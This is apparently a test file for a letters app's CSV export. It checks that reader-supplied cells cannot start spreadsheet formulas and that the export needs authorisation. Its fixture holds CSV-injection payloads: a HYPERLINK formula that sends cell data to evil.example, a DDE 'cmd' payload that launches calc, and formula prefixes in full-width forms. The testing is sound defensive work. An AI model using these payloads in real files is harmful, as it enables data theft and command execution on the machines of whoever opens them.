// The letters export as CSV (GET /api/v1/exports/letters?format=csv), opened
// as a spreadsheet's importer would: by a real CSV parser (csv-parse). Reader
// text arrives by email unchecked, so it may hold formulas (=, +, -, @ and
// their full-width forms), quotes, commas and line breaks: every cell reads
// back as the letter has it, and none that a spreadsheet would run starts
// with a formula character.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { forEachDialect } from '../support/databases.ts';
import { daysSince, startTestApp, type TestApp } from '../support/app.ts';
import { intakeLetter } from '../../src/letters/intake.ts';
import { act } from './helpers.ts';

/** Letters whose every field a spreadsheet could misread. */
const HOSTILE = [
  { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', town: '-2+3', headline: '@SUM(A1:A9)', body: '=cmd|\' /C calc\'!A0\nA second line, "quoted", with commas, and more.' },
  { name: '+Ada Lovelace', town: ' =1+1', headline: '＝1+1 (full-width)', body: '\t=1+1 after a tab\r\nand a CRLF inside the letter.' },
  { name: 'Plain Person', town: 'Leeds', headline: 'An ordinary headline, with a comma', body: 'Nothing to see: 1 - 1 = 0, and that is fine in the middle of a cell.' },
];

/** What the export writes for a cell: the text, with an apostrophe first when a spreadsheet would run it. */
const asExported = (s: string) => (/^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/.test(s) ? `'${s}` : s);

forEachDialect('CSV export', (dialect) => {
  let t: TestApp;
  const published: { id: string; headline: string; body: string; name: string; town: string }[] = [];

  const began = new Date();

  before(async () => {
    t = await startTestApp(dialect);
    let n = 0;
    for (const h of HOSTILE) {
      // By email, where nothing refuses what a writer types.
      const r = await intakeLetter(t.ctx, {
        source: 'email',
        article: { id: 'a-data-broker-act', method: 'url', confidence: 1 },
        writer: { name: h.name, email: `csv${n++}@example.com`, town: h.town },
        subject: 'Letter',
        body: h.body,
        consent: true,
        exclusive: false,
        pow: 'none',
        dedupeKey: null,
        actor: 'test',
      });
      await act(t, r.letter.id, { action: 'publish', headline: h.headline });
      published.push({ id: r.letter.id, ...h });
    }
  });
  after(() => t?.close());

  test('a CSV parser reads every letter back, and no cell starts a formula', async () => {
    const { from, to, query: days } = daysSince(began);
    const res = await fetch(`${t.url}/api/v1/exports/letters?${days}&format=csv`, { headers: { authorization: `Bearer ${await t.token('viewer')}` } });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    assert.match(res.headers.get('content-disposition') ?? '', new RegExp(`attachment; filename="letters-${from}-${to}\\.csv"`));
    const rows = parse(await res.text(), { bom: true, columns: true, relax_quotes: false, relax_column_count: false }) as Record<string, string>[];
    assert.equal(rows.length, published.length);
    assert.deepEqual(Object.keys(rows[0]!), ['id', 'published_at', 'article_id', 'article_title', 'headline', 'name', 'town', 'text']);
    // Cell for cell what the JSON export says of the same letters, an apostrophe before what a spreadsheet would run.
    const json = (await (await fetch(`${t.url}/api/v1/exports/letters?${days}`, { headers: { authorization: `Bearer ${await t.token('viewer')}` } })).json()) as { letters: { id: string; headline: string; name: string; town: string | null; text: string; publishedAt: string; article: { id: string; title: string } }[] };
    for (const p of published) {
      const row = rows.find((r) => r.id === p.id);
      const j = json.letters.find((l) => l.id === p.id)!;
      assert.ok(row, `letter ${p.id} is in the export`);
      assert.deepEqual(
        { headline: row.headline, name: row.name, town: row.town, text: row.text, published_at: row.published_at, article_id: row.article_id, article_title: row.article_title },
        { headline: asExported(j.headline), name: asExported(j.name), town: asExported(j.town ?? ''), text: asExported(j.text), published_at: j.publishedAt, article_id: j.article.id, article_title: j.article.title },
      );
    }
    // What a spreadsheet would run: none.
    for (const row of rows) for (const [column, cell] of Object.entries(row)) assert.doesNotMatch(cell, /^[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n]/, `${column} would start a formula: ${cell}`);
    // The apostrophe is the only change: taken off, the hostile cells are as written.
    const first = rows.find((r) => r.id === published[0]!.id)!;
    assert.equal(first.headline!.slice(1), '@SUM(A1:A9)');
    assert.match(first.text!, /"quoted", with commas/);
    // Ordinary text is left alone, its minus and equals sign included.
    const plain = rows.find((r) => r.id === published[2]!.id)!;
    assert.equal(plain.text, HOSTILE[2]!.body);
    assert.equal(plain.name, 'Plain Person');
  });

  test('the export is for the desk only', async () => {
    const { query: days } = daysSince(began);
    assert.equal((await fetch(`${t.url}/api/v1/exports/letters?${days}&format=csv`)).status, 401);
  });
});
